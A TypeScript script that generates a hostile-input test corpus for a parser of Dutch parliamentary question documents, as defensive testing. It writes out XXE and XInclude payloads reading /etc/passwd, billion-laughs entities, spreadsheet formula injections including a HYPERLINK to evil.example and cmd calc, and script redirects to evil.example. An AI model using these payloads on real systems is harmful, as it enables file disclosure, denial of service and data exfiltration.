// Writes the hostile-input corpus in tests/bad-input/fixtures/ from the real documents in
// tests/seeds and tests/fixtures/formats: each case is a folder with its input file(s) and
// case.json (what it is, and the diagnostic the pipeline must give). Run it after changing a
// case: `npx tsx tests/bad-input/make-cases.ts`. The 50 MB case and the symlink case are not
// files here: the test makes them in a temp folder.
//
// Every case gets its own document id (ah-tk-20182019-9NNN or ah-tk-20202021-9NNN), so all
// cases can be built together in one documents folder without colliding.
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { strToU8, zipSync } from 'fflate';
import type { CaseSpec } from './case-spec.ts';

const HERE = fileURLToPath(new URL('.', import.meta.url));
const ROOT = join(HERE, '..', '..');
const CASES = join(HERE, 'fixtures');

const SEED = readFileSync(join(ROOT, 'tests/seeds/ah-tk-20182019-3922.pdf-text.txt'), 'utf8');
const FORMATS = join(ROOT, 'tests/fixtures/formats/ah-tk-20202021-3235');
const XML = readFileSync(join(FORMATS, 'ah-tk-20202021-3235.xml'), 'utf8');
const META = readFileSync(join(FORMATS, 'ah-tk-20202021-3235.metadata.xml'), 'utf8');
const HTML = readFileSync(join(FORMATS, 'ah-tk-20202021-3235.html'), 'utf8');
const PDF = readFileSync(join(FORMATS, 'ah-tk-20202021-3235.pdf'));
const ODT = readFileSync(join(FORMATS, 'ah-tk-20202021-3235.odt'));

const lines = SEED.split('\n');
/** 1-based line number of the first line matching `re` in `text`. */
function lineOf(text: string, re: RegExp): number {
  const index = text.split('\n').findIndex((l) => re.test(l));
  if (index < 0) throw new Error(`no line matches ${re}`);
  return index + 1;
}
const seedId = (n: number) => `ah-tk-20182019-${9000 + n}`;
const xmlId = (n: number) => `ah-tk-20202021-${9000 + n}`;
const renumberXml = (text: string, n: number) => text.replaceAll('3235', String(9000 + n));

interface Made {
  spec: CaseSpec;
  files: Record<string, string | Uint8Array>;
}

const made: Made[] = [];
let counter = 0;
function add(
  slug: string,
  build: (n: number) => { spec: Omit<CaseSpec, 'slug'>; files: Made['files'] },
): void {
  counter += 1;
  const result = build(counter);
  made.push({ files: result.files, spec: { slug, ...result.spec } });
}

const seedName = (n: number, what: string) => `${seedId(n)}.${what}.pdf.txt`;
const xmlName = (n: number, ext = 'xml') => `${xmlId(n)}.${ext}`;

// --- Not a document at all ---------------------------------------------------------------
add('empty-file', (n) => {
  const f = seedName(n, 'empty');
  return {
    files: { [f]: '' },
    spec: { title: 'empty file', expect: [{ file: f, outcome: 'refused', code: 'extract/empty' }] },
  };
});
add('whitespace-only', (n) => {
  const f = seedName(n, 'whitespace');
  return {
    files: { [f]: ' \n\t\n   \n\n' },
    spec: {
      title: 'only blanks and newlines',
      expect: [
        { file: f, outcome: 'refused', code: /^(extract\/empty|parse\/no-questions)$/.source },
      ],
    },
  };
});
add('binary-junk', (n) => {
  const f = seedName(n, 'junk');
  const bytes = Uint8Array.from({ length: 8192 }, (_, i) => (i * 151 + (i >> 3)) % 256);
  return {
    files: { [f]: bytes },
    spec: {
      title: 'binary junk',
      expect: [{ file: f, outcome: 'refused', code: 'extract/binary' }],
    },
  };
});
add('gzip-named-txt', (n) => {
  const f = seedName(n, 'gzipped');
  // A gzip header and deflate-looking bytes: a compressed download saved under a text name.
  const bytes = Uint8Array.from([
    0x1f,
    0x8b,
    8,
    0,
    0,
    0,
    0,
    0,
    0,
    3,
    ...Array.from({ length: 2000 }, (_, i) => (i * 97) % 256),
  ]);
  return {
    files: { [f]: bytes },
    spec: {
      title: 'gzip data named .txt',
      expect: [{ file: f, outcome: 'refused', code: 'extract/binary' }],
    },
  };
});
add('text-named-pdf', (n) => {
  const f = `${seedId(n)}.not-a-pdf.pdf`;
  return {
    files: { [f]: SEED },
    spec: {
      title: 'a PDF that is not a PDF (text saved as .pdf)',
      expect: [{ file: f, outcome: 'refused', code: 'extract/not-pdf' }],
    },
  };
});
add('html-error-page-named-pdf', (n) => {
  const f = `${seedId(n)}.error-page.pdf`;
  return {
    files: { [f]: '<!DOCTYPE html><html><body><h1>503 Service Unavailable</h1></body></html>\n' },
    spec: {
      title: 'an HTML error page saved as .pdf',
      expect: [{ file: f, outcome: 'refused', code: 'extract/not-pdf' }],
    },
  };
});
add('pdf-magic-then-junk', (n) => {
  const f = `${seedId(n)}.junk.pdf`;
  return {
    files: { [f]: `%PDF-1.7\n${'garbage '.repeat(400)}\n` },
    spec: {
      title: 'PDF magic followed by junk',
      expect: [{ file: f, outcome: 'refused', code: /^extract\/pdf-/.source }],
    },
  };
});
add('truncated-pdf', (n) => {
  const f = `${xmlId(n)}.truncated.pdf`;
  return {
    files: { [f]: PDF.subarray(0, Math.floor(PDF.length / 3)) },
    spec: {
      title: 'PDF cut off at a third (interrupted download)',
      expect: [{ file: f, outcome: 'refused', code: /^extract\/pdf-/.source }],
    },
  };
});
add('text-named-odt', (n) => {
  const f = `${xmlId(n)}.not-an-odt.odt`;
  return {
    files: { [f]: '<office:document-content/>' },
    spec: {
      title: '.odt that is not a ZIP',
      expect: [{ file: f, outcome: 'refused', code: 'extract/not-odt' }],
    },
  };
});
add('truncated-odt', (n) => {
  const f = `${xmlId(n)}.truncated.odt`;
  return {
    files: { [f]: ODT.subarray(0, 3000) },
    spec: {
      title: 'ODT cut off mid-archive',
      expect: [
        { file: f, outcome: 'refused', code: /^extract\/(zip-unreadable|odt-no-content)$/.source },
      ],
    },
  };
});
add('zip-not-odt', (n) => {
  const f = `${xmlId(n)}.archive.odt`;
  return {
    files: {
      [f]: zipSync(
        { 'readme.txt': strToU8('not an office document') },
        { mtime: new Date('2020-01-01T00:00:00Z') },
      ),
    },
    spec: {
      title: 'a ZIP without content.xml named .odt',
      expect: [{ file: f, outcome: 'refused', code: /^extract\/(odt-no-content|not-odt)$/.source }],
    },
  };
});

// --- Text documents with structural damage -------------------------------------------------
add('truncated-mid-answer', (n) => {
  const f = seedName(n, 'truncated');
  // Cut in the middle of "Antwoord 6": questions 7-10 are lost with the rest of the file.
  const cut = lineOf(SEED, /^\s*Antwoord 6\s*$/) + 3;
  return {
    files: {
      [f]: lines.slice(0, cut).join('\n').replace(/ \n?$/, '') + ' Bedrijven zijn zelf verant',
    },
    spec: {
      title: 'document cut off in the middle of an answer',
      note: 'The heading "Vraag 4, 5" etc. survive; the end of the file is gone. The parser cannot know the original had 10 questions unless something says so; a cut mid-word with no closing is at least a warning.',
      expect: [
        {
          file: f,
          outcome: 'any',
          code: /^parse\/truncated$/.source,
          field: /^\/(answers|questions)\/\d+$/.source,
        },
      ],
    },
  };
});
add('no-header', (n) => {
  const f = seedName(n, 'no-header');
  const start = lineOf(SEED, /^\s*Vraag 1\s*$/) - 1;
  return {
    files: { [f]: lines.slice(start).join('\n') },
    spec: {
      title: 'no header (no "Vragen van …" / "Antwoord van …" sentences)',
      expect: [
        {
          file: f,
          outcome: 'record',
          code: /^parse\/(header|missing-askers|missing-date)$/.source,
          field: /^\/(askers|submitted|title)/.source,
        },
      ],
    },
  };
});
add('duplicate-question-numbers', (n) => {
  const f = seedName(n, 'duplicate-questions');
  const text = SEED.replace(/^\s*Vraag 3\s*$/m, 'Vraag 2').replace(
    /^\s*Antwoord 3\s*$/m,
    'Antwoord 2',
  );
  return {
    files: { [f]: text },
    spec: {
      title: 'two questions numbered 2',
      expect: [
        {
          file: f,
          outcome: 'refused',
          code: /^(parse\/question-number|integrity\/duplicate-question)$/.source,
          field: /^\/questions\/2$/.source,
        },
      ],
    },
  };
});
add('answer-to-missing-question', (n) => {
  const f = seedName(n, 'answer-to-nothing');
  const at = lineOf(SEED, /^\s*Antwoord 8\s*$/) - 1;
  const copy = [...lines];
  copy.splice(at, 0, 'Antwoord 12', 'Dit antwoord hoort bij geen enkele vraag. ', '');
  return {
    files: { [f]: copy.join('\n') },
    spec: {
      title: 'an answer to a question that does not exist (Antwoord 12 of 10)',
      expect: [
        {
          file: f,
          outcome: 'any',
          code: /^(parse|integrity)\/unknown-question$/.source,
          field: /^\/answers/.source,
        },
      ],
    },
  };
});
add('questions-without-answers', (n) => {
  const f = seedName(n, 'no-answers');
  const end = lineOf(SEED, /^\s*Antwoord 1\s*$/) - 1;
  const kept = lines.filter((l, i) => i < end || /^\s*Vraag \d/.test(l));
  return {
    files: { [f]: kept.join('\n') },
    spec: {
      title: 'questions with no answers (answer sentence in the header, but no answer blocks)',
      expect: [
        {
          file: f,
          outcome: 'any',
          code: /^parse\/(unanswered|unanswered-question)$/.source,
          field: /^\/questions/.source,
        },
      ],
    },
  };
});
add('numbers-out-of-order', (n) => {
  const f = seedName(n, 'out-of-order');
  const text = SEED.replace(/^\s*Vraag 3\s*$/m, 'Vraag X3')
    .replace(/^\s*Vraag 6\s*$/m, 'Vraag 3')
    .replace(/^\s*Vraag X3\s*$/m, 'Vraag 6');
  return {
    files: { [f]: text },
    spec: {
      title: 'question numbers out of order (… 2, 6, 4-5, 3 …)',
      expect: [
        {
          file: f,
          outcome: 'any',
          code: /^(parse|integrity)\/question-order$/.source,
          field: /^\/questions/.source,
        },
      ],
    },
  };
});
add('date-31-februari', (n) => {
  const f = seedName(n, 'february-31');
  const text = SEED.replace('(ingezonden 18 juli 2019)', '(ingezonden 31 februari 2019)');
  return {
    files: { [f]: text },
    spec: {
      title: 'a date that does not exist ("31 februari 2019")',
      expect: [
        {
          file: f,
          outcome: 'any',
          code: /^parse\/(header|invalid-date)$/.source,
          field: '/submitted',
        },
      ],
    },
  };
});
add('answered-before-submitted', (n) => {
  const f = seedName(n, 'answered-first');
  const text = SEED.replace('(ontvangen 10 september 2019)', '(ontvangen 10 september 2018)');
  return {
    files: { [f]: text },
    spec: {
      title: 'answered (2018) before submitted (2019)',
      expect: [
        {
          file: f,
          outcome: 'refused',
          code: 'integrity/answered-before-submitted',
          field: '/answered',
        },
      ],
    },
  };
});
add('no-questions', (n) => {
  const f = seedName(n, 'prose');
  return {
    files: {
      [f]:
        lines.slice(0, 8).join('\n') +
        '\n\nDit document bevat geen vragen of antwoorden, alleen deze zin.\n',
    },
    spec: {
      title: 'a header but no "Vraag 1" anywhere',
      expect: [{ file: f, outcome: 'refused', code: 'parse/no-questions' }],
    },
  };
});
add('long-line', (n) => {
  const f = seedName(n, 'long-line');
  const at = lineOf(SEED, /^\s*Antwoord 7\s*$/);
  const copy = [...lines];
  copy[at] = 'Nee, ' + 'en dat blijft zo, '.repeat(20_000) + 'einde.';
  return {
    files: { [f]: copy.join('\n') },
    spec: {
      title: 'an answer that is one 360 kB line',
      expect: [{ file: f, outcome: 'record' }],
    },
  };
});
add('no-newlines', (n) => {
  const f = seedName(n, 'one-line');
  return {
    files: { [f]: SEED.replace(/\n/g, ' ') },
    spec: {
      title: 'the whole document on one line (all line breaks lost)',
      expect: [{ file: f, outcome: 'any' }],
    },
  };
});
add('nul-bytes', (n) => {
  const f = seedName(n, 'nul');
  return {
    files: { [f]: SEED.replace('Vraag 2\n', 'Vraag 2\n\u0000\u0000\u0000') },
    spec: {
      title: 'NUL bytes inside a question',
      expect: [
        {
          file: f,
          outcome: 'refused',
          code: /^extract\/(binary|control-characters)$/.source,
          line: lineOf(SEED, /^\s*Vraag 2\s*$/) + 1,
        },
      ],
    },
  };
});
add('page-furniture-only', (n) => {
  const f = seedName(n, 'furniture');
  return {
    files: {
      [f]: Array.from(
        { length: 30 },
        (_, i) =>
          `ah-tk-20182019-${9000 + n}\nISSN 0921-7398\n's-Gravenhage 2019\nAanhangsel Handelingen II 2018/19\n${i + 1}\n\f`,
      ).join(''),
    },
    spec: {
      title: 'only page headers and footers, no content',
      expect: [{ file: f, outcome: 'refused', code: 'parse/no-questions' }],
    },
  };
});

// --- Encodings -----------------------------------------------------------------------------
const encode1252 = (text: string) =>
  Uint8Array.from(
    [...text].map((c) => {
      const map: Record<string, number> = {
        '’': 0x92,
        '–': 0x96,
        '«': 0xab,
        '»': 0xbb,
        é: 0xe9,
        ë: 0xeb,
        '€': 0x80,
      };
      const code = c.charCodeAt(0);
      if (code < 0x80) return code;
      const b = map[c];
      if (b === undefined) throw new Error(`no cp1252 byte for ${c}`);
      return b;
    }),
  );
add('windows-1252', (n) => {
  const f = seedName(n, 'cp1252');
  return {
    files: { [f]: encode1252(SEED) },
    spec: {
      title: 'Windows-1252 text (’ – « » é as single bytes)',
      expect: [{ file: f, outcome: 'record' }],
      checks: ['text-contains:Berucht Chinees veiligheidsministerie', 'text-contains:één'],
    },
  };
});
const utf16 = (text: string, bigEndian: boolean, bom: boolean) => {
  const out = new Uint8Array((text.length + (bom ? 1 : 0)) * 2);
  const all = (bom ? '\ufeff' : '') + text;
  for (let i = 0; i < all.length; i++) {
    const c = all.charCodeAt(i);
    out[i * 2 + (bigEndian ? 1 : 0)] = c & 0xff;
    out[i * 2 + (bigEndian ? 0 : 1)] = c >> 8;
  }
  return out;
};
add('utf16le-bom', (n) => {
  const f = seedName(n, 'utf16le');
  return {
    files: { [f]: utf16(SEED, false, true) },
    spec: {
      title: 'UTF-16 LE with BOM',
      expect: [{ file: f, outcome: 'record' }],
      checks: ['text-contains:één'],
    },
  };
});
add('utf16be-no-bom', (n) => {
  const f = seedName(n, 'utf16be');
  return {
    files: { [f]: utf16(SEED, true, false) },
    spec: {
      title: 'UTF-16 BE without BOM',
      expect: [{ file: f, outcome: 'record' }],
      checks: ['text-contains:één'],
    },
  };
});
add('utf16-xml', (n) => {
  const f = xmlName(n);
  return {
    files: {
      [f]: utf16(renumberXml(XML, n).replace('encoding="UTF-8"', 'encoding="UTF-16"'), false, true),
    },
    spec: {
      title: 'officielebekendmakingen XML in UTF-16',
      expect: [{ file: f, outcome: 'record' }],
    },
  };
});
add('mixed-utf8-cp1252', (n) => {
  const f = seedName(n, 'mixed-encoding');
  const utf8 = new TextEncoder().encode(SEED);
  const bytes = new Uint8Array([
    ...utf8,
    ...encode1252('\nVraag 11\nKost dit meer dan 5 €? Caf'),
    0xe9,
    0x0a,
    ...encode1252('\nAntwoord 11\nNee.\n'),
  ]);
  return {
    files: { [f]: bytes },
    spec: {
      title: 'UTF-8 with stray Windows-1252 bytes',
      expect: [
        {
          file: f,
          outcome: 'any',
          code: 'extract/mixed-encoding',
          line: SEED.split('\n').length + 2,
        },
      ],
    },
  };
});

// --- Names: look-alikes, invisible characters ---------------------------------------------
add('zero-width-in-names', (n) => {
  const f = seedName(n, 'zero-width');
  const text = SEED.replace('Sjoerdsma (D66)', 'Sjoe\u200brdsma\u200d (D\u200c66)').replace(
    'Minister Kaag',
    'Minister Ka\ufeffag',
  );
  return {
    files: { [f]: text },
    spec: {
      title: 'zero-width space/joiner/non-joiner and BOM inside asker, party and answerer names',
      expect: [{ file: f, outcome: 'any' }],
      checks: ['no-invisible-in-names'],
    },
  };
});
add('homoglyph-names', (n) => {
  const f = seedName(n, 'homoglyph');
  // Cyrillic а and о in the name, Greek Ο in the party: looks identical, compares different.
  const text = SEED.replace('Sjoerdsma (D66)', 'Sjоerdsmа (D66)').replace(
    'Minister Kaag',
    'Minister Kаag',
  );
  return {
    files: { [f]: text },
    spec: {
      title: 'Cyrillic look-alike letters in asker and answerer names',
      expect: [
        {
          file: f,
          outcome: 'any',
          code: /^(parse|validate|integrity)\/(mixed-script|confusable|look-alike).*$/.source,
          field: /^\/(askers|answerer)/.source,
        },
      ],
    },
  };
});
add('bidi-override-title', (n) => {
  const f = seedName(n, 'bidi');
  const text = SEED.replace('over het bericht', 'over het \u202ebericht\u202c');
  return {
    files: { [f]: text },
    spec: {
      title: 'a right-to-left override character in the title',
      expect: [{ file: f, outcome: 'any' }],
      checks: ['no-invisible-in-names', 'no-bidi-controls'],
    },
  };
});

// --- Spreadsheet formulas in every CSV column --------------------------------------------
add('csv-formulas', (n) => {
  const f = xmlName(n);
  let x = renumberXml(XML, n);
  x = x
    .replace(
      '<achternaam>Van Weyenberg</achternaam>',
      '<achternaam>=HYPERLINK("http://evil.example/?"&amp;A1,"x")</achternaam>',
    )
    .replace(
      '<voornaam>Romke de </voornaam><achternaam>Jong</achternaam>',
      '<voornaam>+Romke </voornaam><achternaam>-Jong</achternaam>',
    )
    .replace('<achternaam>Kat</achternaam>', "<achternaam>@SUM(1+1)*cmd|' /C calc'!A0</achternaam>")
    .replace('(allen D66)', '(allen =D66)')
    .replace(
      '<kamervraagonderwerp>de TOZO</kamervraagonderwerp>',
      '<kamervraagonderwerp>=1+1 de TOZO</kamervraagonderwerp>',
    )
    .replace(
      'Antwoord van Minister <naam><achternaam>Koolmees</achternaam></naam>',
      'Antwoord van Minister <naam><achternaam>-Koolmees</achternaam></naam>',
    )
    .replace(/<al>Klopt het dat/, "<al>=cmd|'/C calc'!A0 Klopt het dat")
    .replace(/<al>Ja\. Volledigheidshalve/, '<al>+Ja. Volledigheidshalve')
    .replace(/<al>Kunt u toelichten/, '<al>\tKunt u toelichten')
    .replace(/<al>Bij de invoering/, '<al>@Bij de invoering');
  const meta = renumberXml(META, n).replace(
    'content="S.P.R.A. van Weyenberg"',
    'content="=S.P.R.A. van Weyenberg"',
  );
  return {
    files: { [f]: x, [`${xmlId(n)}.metadata.xml`]: meta },
    spec: {
      title: 'text starting with = + - @ (and tab) in names, party, title, question, answer',
      expect: [{ file: f, outcome: 'record' }],
      checks: ['csv-formulas-guarded', 'csv-formula-case-seen'],
    },
  };
});

// --- XML -----------------------------------------------------------------------------------
add('xml-truncated', (n) => {
  const f = xmlName(n);
  const x = renumberXml(XML, n);
  const cut = x.indexOf('<nr status="officieel">Antwoord 3</nr>') + 30;
  return {
    files: { [f]: x.slice(0, cut) },
    spec: {
      title: 'XML cut off mid-answer',
      expect: [
        {
          file: f,
          outcome: 'refused',
          code: 'extract/xml-malformed',
          line: x.slice(0, cut).split('\n').length,
        },
      ],
    },
  };
});
add('xml-doctype', (n) => {
  const f = xmlName(n);
  const x = renumberXml(XML, n).replace(
    '<officiele-publicatie',
    '<!DOCTYPE officiele-publicatie SYSTEM "op.dtd">\n<officiele-publicatie',
  );
  return {
    files: { [f]: x },
    spec: {
      title: 'XML with a DOCTYPE',
      expect: [{ file: f, outcome: 'refused', code: 'extract/xml-doctype', line: 2 }],
    },
  };
});
add('xml-xxe-passwd', (n) => {
  const f = xmlName(n);
  const x = renumberXml(XML, n)
    .replace(
      '<officiele-publicatie',
      '<!DOCTYPE officiele-publicatie [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<officiele-publicatie',
    )
    .replace('<al>Klopt het dat', '<al>&xxe; Klopt het dat');
  return {
    files: { [f]: x },
    spec: {
      title: 'XML external entity to file:///etc/passwd (XXE)',
      expect: [{ file: f, outcome: 'refused', code: 'extract/xml-doctype', line: 2 }],
    },
  };
});
add('xml-billion-laughs', (n) => {
  const f = xmlName(n);
  const defs = [
    '<!ENTITY lol0 "lol">',
    ...Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`),
  ];
  const x = renumberXml(XML, n)
    .replace(
      '<officiele-publicatie',
      `<!DOCTYPE officiele-publicatie [\n${defs.join('\n')}\n]>\n<officiele-publicatie`,
    )
    .replace('<al>Klopt het dat', '<al>&lol9; Klopt het dat');
  return {
    files: { [f]: x },
    spec: {
      title: 'XML entity expansion (billion laughs)',
      expect: [{ file: f, outcome: 'refused', code: 'extract/xml-doctype', line: 2 }],
    },
  };
});
add('xml-internal-entity-no-doctype-keyword', (n) => {
  const f = xmlName(n);
  // An undeclared entity reference: must not be resolved to anything, nor crash.
  const x = renumberXml(XML, n).replace('<al>Klopt het dat', '<al>&passwd; Klopt het dat');
  return {
    files: { [f]: x },
    spec: {
      title: 'XML with an undeclared entity reference (left as text, never resolved)',
      expect: [{ file: f, outcome: 'any' }],
    },
  };
});
add('xml-xinclude', (n) => {
  const f = xmlName(n);
  const x = renumberXml(XML, n).replace(
    '<al>Klopt het dat',
    '<al><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/> Klopt het dat',
  );
  return {
    files: { [f]: x },
    spec: {
      title: 'XInclude of file:///etc/passwd (must never be resolved)',
      expect: [{ file: f, outcome: 'any' }],
    },
  };
});
add('xml-deep', (n) => {
  const f = xmlName(n);
  const x = renumberXml(XML, n).replace(
    '<al>Klopt het dat',
    `${'<al>'.repeat(5_000)}x${'</al>'.repeat(5_000)}<al>Klopt het dat`,
  );
  return {
    files: { [f]: x },
    spec: {
      title: 'XML nested 5 000 deep',
      expect: [{ file: f, outcome: 'refused', code: 'extract/too-deep' }],
    },
  };
});
add('xml-metadata-xxe', (n) => {
  const f = xmlName(n);
  const meta = renumberXml(META, n).replace(
    '<metadata_gegevens>',
    '<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<metadata_gegevens>\n<metadata name="DC.title" content="&x;"/>',
  );
  return {
    files: { [f]: renumberXml(XML, n), [`${xmlId(n)}.metadata.xml`]: meta },
    spec: {
      title: 'metadata.xml sidecar with an external entity (the document itself is fine)',
      expect: [
        {
          file: `${xmlId(n)}.metadata.xml`,
          outcome: 'warning',
          code: 'extract/xml-doctype',
          line: 2,
        },
        { file: f, outcome: 'record' },
      ],
    },
  };
});
add('orphan-metadata', (n) => {
  const f = `${xmlId(n)}.metadata.xml`;
  return {
    files: { [f]: renumberXml(META, n) },
    spec: {
      title: 'a metadata.xml without its document',
      expect: [{ file: f, outcome: 'warning', code: 'build/orphan-metadata' }],
    },
  };
});
add('xml-not-kamervragen', (n) => {
  const f = xmlName(n);
  return {
    files: {
      [f]: '<?xml version="1.0" encoding="UTF-8"?>\n<officiele-publicatie><kamerstuk><kamerstukkop/></kamerstuk></officiele-publicatie>\n',
    },
    spec: {
      title: 'XML of another publication type',
      expect: [{ file: f, outcome: 'refused', code: 'extract/not-kamervragen' }],
    },
  };
});
add('xml-empty-root', (n) => {
  const f = xmlName(n);
  return {
    files: {
      [f]: '<?xml version="1.0" encoding="UTF-8"?>\n<officiele-publicatie><kamervragen/></officiele-publicatie>\n',
    },
    spec: {
      title: 'XML with an empty <kamervragen/>',
      expect: [{ file: f, outcome: 'refused', code: 'parse/no-questions' }],
    },
  };
});

// --- HTML ----------------------------------------------------------------------------------
add('html-deep', (n) => {
  const f = xmlName(n, 'html');
  const h = renumberXml(HTML, n).replace(
    '<div id="broodtekst">',
    `<div id="broodtekst">${'<div>'.repeat(5_000)}x${'</div>'.repeat(5_000)}`,
  );
  return {
    files: { [f]: h },
    spec: {
      title: 'HTML nested 5 000 deep',
      expect: [{ file: f, outcome: 'refused', code: 'extract/too-deep' }],
    },
  };
});
add('html-unclosed-deep', (n) => {
  const f = xmlName(n, 'html');
  const h = renumberXml(HTML, n).replace(
    '<div id="broodtekst">',
    `<div id="broodtekst">${'<span><b><i>'.repeat(3_000)}`,
  );
  return {
    files: { [f]: h },
    spec: {
      title: 'HTML with 9 000 unclosed inline tags',
      expect: [{ file: f, outcome: 'refused', code: 'extract/too-deep' }],
    },
  };
});
add('html-script', (n) => {
  const f = xmlName(n, 'html');
  const marker = 'SCRIPT-CANARY-7f3a';
  const h = renumberXml(HTML, n)
    .replace(
      /(<div class="vraag"[^>]*>)/,
      `$1<script>document.location='http://evil.example/?${marker}'</script>`,
    )
    .replace(
      /(<div class="antwoord"[^>]*>)/,
      `$1<img src=x onerror="alert('${marker}')"><style>body{background:url(${marker})}</style>`,
    );
  return {
    files: { [f]: h },
    spec: {
      title: '<script>, <style> and an onerror handler inside question and answer',
      expect: [{ file: f, outcome: 'record' }],
      checks: [`output-lacks:${marker}`],
    },
  };
});
add('html-javascript-link', (n) => {
  const f = xmlName(n, 'html');
  const h = renumberXml(HTML, n).replace(
    /(<div class="antwoord"[^>]*>)/,
    '$1<p>Zie <a href="javascript:alert(document.cookie)">javascript:alert(document.cookie)</a> en data:text/html;base64,PHNjcmlwdD4= voor meer.</p>',
  );
  return {
    files: { [f]: h },
    spec: {
      title: 'javascript: and data: links in an answer',
      expect: [{ file: f, outcome: 'any' }],
      checks: ['no-unsafe-urls'],
    },
  };
});
add('html-entity-doctype', (n) => {
  const f = xmlName(n, 'html');
  const h = renumberXml(HTML, n)
    .replace(/<!DOCTYPE html[^>]*>/, '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
    .replace(/(<div class="vraag"[^>]*>)/, '$1&xxe;');
  return {
    files: { [f]: h },
    spec: {
      title: 'HTML with an internal DTD declaring an external entity',
      expect: [{ file: f, outcome: 'any' }],
    },
  };
});

// --- Several files ---------------------------------------------------------------------------
add('duplicate-id', (n) => {
  const a = `${seedId(n)}.first.pdf.txt`;
  const b = `${seedId(n)}.second-copy.pdf.txt`;
  return {
    files: { [a]: SEED, [b]: SEED.replace('Ja. ', 'Ja, dat klopt. ') },
    spec: {
      title: 'two files claiming the same document id',
      expect: [
        { file: a, outcome: 'any' },
        { file: b, outcome: 'any' },
      ],
      checks: ['one-of-duplicates-kept'],
    },
  };
});
add('xml-and-pdf-text-same-id', (n) => {
  const a = xmlName(n);
  const b = `${xmlId(n)}.copy.pdf.txt`;
  return {
    files: { [a]: renumberXml(XML, n), [b]: SEED },
    spec: {
      title: 'an XML publication and a text file with the same id prefix (different documents)',
      expect: [
        { file: a, outcome: 'any' },
        { file: b, outcome: 'any' },
      ],
      checks: ['one-of-duplicates-kept'],
    },
  };
});
add('heading-backtracking', (n) => {
  const f = seedName(n, 'backtracking');
  // Runs of blanks between numbers that almost make a heading: the patterns once tried every
  // way to split the blanks (time doubling per group; 24 groups took minutes).
  const groups = Array.from({ length: 24 }, () => '2').join('   ');
  const copy = [...lines];
  copy[lineOf(SEED, /^\s*Vraag 1\s*$/)] = `Vraag ${groups} x`;
  copy[lineOf(SEED, /^\s*Antwoord 1\s*$/)] = `Antwoord op vraag ${groups} x`;
  return {
    files: { [f]: copy.join('\n') },
    spec: {
      title: 'heading lines built to make the heading patterns backtrack exponentially',
      expect: [{ file: f, outcome: 'any' }],
    },
  };
});

// -------------------------------------------------------------------------------------------
rmSync(CASES, { recursive: true, force: true });
for (const [i, { spec, files }] of made.entries()) {
  const dir = join(CASES, `${String(i + 1).padStart(2, '0')}-${spec.slug}`);
  mkdirSync(dir, { recursive: true });
  for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
  const clean = JSON.parse(JSON.stringify(spec)) as CaseSpec;
  writeFileSync(join(dir, 'case.json'), `${JSON.stringify(clean, null, 2)}\n`);
}
// An index for reviewers: what each case is and what the pipeline must say.
const cell = (text: string) => text.replace(/\|/g, '\\|');
const rows = made.map(({ spec }, i) => {
  const want = spec.expect
    .map(
      (e) =>
        `${e.outcome}${e.code ? ` \`${e.code}\`` : ''}${e.line !== undefined ? ` line ${e.line}` : ''}${e.field ? ` field \`${e.field}\`` : ''}`,
    )
    .join('; ');
  return `| ${String(i + 1).padStart(2, '0')}-${spec.slug} | ${cell(spec.title)} | ${cell(want)}${spec.checks ? ` (checks: ${spec.checks.join(', ')})` : ''} |`;
});
writeFileSync(
  join(CASES, 'INDEX.md'),
  [
    '# Hostile-input cases',
    '',
    'Written by `npx tsx tests/bad-input/make-cases.ts`; run by tests/bad-input/bad-input.test.ts, which also makes',
    'a 50 MB text file and a symbolic link to /etc/passwd at test time. Outcomes: refused (no record, named in',
    'quarantine.json with the code), record, warning (named in a warning), any (record or refused; the code must',
    'be reported either way).',
    '',
    '| case | input | expected |',
    '| --- | --- | --- |',
    ...rows,
    '',
  ].join('\n'),
);
console.log(`${made.length} cases written to ${CASES}`);
